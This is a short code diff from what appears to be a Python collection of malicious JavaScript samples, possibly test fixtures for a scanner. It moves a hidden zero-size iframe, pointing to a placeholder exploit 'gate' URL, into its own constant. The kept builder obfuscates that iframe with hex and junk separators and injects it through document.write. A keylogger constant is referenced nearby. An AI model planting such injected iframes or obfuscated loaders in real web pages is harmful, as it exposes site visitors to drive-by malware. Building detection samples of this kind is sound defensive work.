@@ -101,8 +101,9 @@ KEYLOGGER = (
     "});\n"
 )
 
+_HIDDEN_IFRAME = '<iframe src="http://landing.invalid/gate.php?id=7" width=0 height=0></iframe>'
 SEPARATOR_ENCODED = (
-    "var p1 = '" + "".join("QzXwVbRt" + f"{ord(ch):02x}" for ch in '<iframe src="http://landing.invalid/gate.php?id=7" width=0 height=0></iframe>') + "';\n"
+    "var p1 = '" + "".join("QzXwVbRt" + f"{ord(ch):02x}" for ch in _HIDDEN_IFRAME) + "';\n"
     "var p2 = p1.split('QzXwVbRt').join('%');\n"
     "document.write(unescape(p2));\n"
 )
